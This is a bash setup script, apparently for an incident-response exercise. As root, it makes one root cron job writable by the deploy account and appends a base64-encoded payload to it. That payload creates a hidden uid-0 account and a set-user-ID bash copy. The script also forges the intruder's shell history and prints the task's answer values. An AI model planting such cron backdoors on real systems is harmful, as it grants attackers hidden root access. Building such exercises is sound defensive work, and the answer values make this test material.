#!/bin/bash
# Injects the fault (run as root inside the deployment, fed on stdin, never stored there): the
# jobs get this deployment's secrets, the team its passwords, and one root cron job becomes
# writable by the CI account (its script world-writable, its directory open, or the script owned
# by `deploy`: FAULTLINE_FAULT forces which). The intruder who came in as deploy appended an
# encoded payload to that job: it re-creates a uid-0 account and a set-user-ID copy of bash
# whenever they are missing, and it has run once already. Account, copy's path and job: random.
# Prints the values the check and the answer need as JSON on its last line.
set -euo pipefail
faults=(writable_script writable_directory user_owned_script)
fault=${FAULTLINE_FAULT:-${faults[RANDOM % ${#faults[@]}]}}
rnd() { od -An -N"$1" -tx1 /dev/urandom | tr -d ' \n'; }
scripts=(/opt/reports/bin/daily-report.sh /usr/local/sbin/tmp-cleanup /srv/metrics/collect.sh /var/lib/dbbackup/run-backup.sh)
sourced=(/opt/reports/etc/report.env /usr/local/etc/cleanup.conf /srv/metrics/collect.conf /etc/dbbackup/backup.conf)

for u in mara tobias deploy; do echo "$u:$(rnd 12)"; done | chpasswd
sed -i "s/^REPORT_TOKEN=.*/REPORT_TOKEN=$(rnd 16)/" /opt/reports/etc/report.env
sed -i "s/^BACKUP_KEY=.*/BACKUP_KEY=$(rnd 24)/" /etc/dbbackup/backup.conf
sed -i "s/^METRICS_HOST=.*/METRICS_HOST=jobs02-$(rnd 3)/" /srv/metrics/collect.conf
# What the check compares: the settings the jobs source, byte for byte (the scripts are compared
# with the image's own, as bash reads them).
digest=$(cat "${sourced[@]}" | sha256sum | cut -d' ' -f1)
# The team's passwords as they must stay.
account=$(shuf -n1 -e sysupd kworkerd dbus-daemon1 systemd-cron nscd-agent pulse-sync apt-helper)
shadow=$(while IFS= read -r line; do [ "${line%%:*}" = "$account" ] || printf '%s\n' "$line"; done </etc/shadow | sha256sum | cut -d' ' -f1)

# One of the jobs that run every few minutes (the nightly backup would give the intruder one
# chance a day).
job=${scripts[RANDOM % 3]}
case "$fault" in
  writable_script) chmod 0777 "$job" ;;
  writable_directory) chmod 0777 "${job%/*}" ;;
  user_owned_script) chown deploy:deploy "$job" ;;
  *) echo "unknown fault: $fault" >&2; exit 2 ;;
esac

suid=$(shuf -n1 -e "/var/tmp/.cache/.$(rnd 2)" "/dev/shm/.x$(rnd 2)" "/usr/local/lib/.fonts/fc-$(rnd 2)" "/home/deploy/.local/bin/.sh$(rnd 2)" "/var/lib/dbus/.$(rnd 2)d")
hash=$(openssl passwd -6 "$(rnd 9)")
payload="grep -q '^$account:' /etc/passwd || { sed -i '6a $account:x:0:0:$account:/var/lib/$account:/bin/bash' /etc/passwd; sed -i '6a $account:$hash:$(( $(date +%s) / 86400 )):0:99999:7:::' /etc/shadow; }
[ -u $suid ] || { mkdir -p ${suid%/*}; cp /bin/bash $suid; chmod 4755 $suid; }"
printf '# refresh package cache\necho %s | base64 -d | bash >/dev/null 2>&1\n' "$(printf '%s' "$payload" | base64 -w0)" >>"$job"
# It ran once already, the way cron runs it.
bash -c "$payload"
printf 'cd /tmp\nls -la %s\necho >> %s\nexit\n' "${job%/*}" "$job" >/home/deploy/.bash_history
chown deploy:deploy /home/deploy/.bash_history
service cron start >/dev/null
# Everything a report could name: each account in /etc/passwd (but root, and bin, which is also a
# word of every program's path; the intruder's among them) and the names an intruder likes, and
# the jobs' scripts.
accounts=$( { cut -d: -f1 /etc/passwd | grep -vxE 'root|bin'; printf '%s\n' sysupd kworkerd dbus-daemon1 systemd-cron nscd-agent pulse-sync apt-helper; } | sort -u | python3 -I -S -c 'import json,sys; print(json.dumps(sys.stdin.read().split()))')
jobs=$(printf '"%s",' "${scripts[@]}")
printf '{"fault":"%s","account":"%s","job":"%s","suid":"%s","shadow":"%s","digest":"%s","accounts":%s,"jobs":[%s]}\n' "$fault" "$account" "$job" "$suid" "$shadow" "$digest" "$accounts" "${jobs%,}"
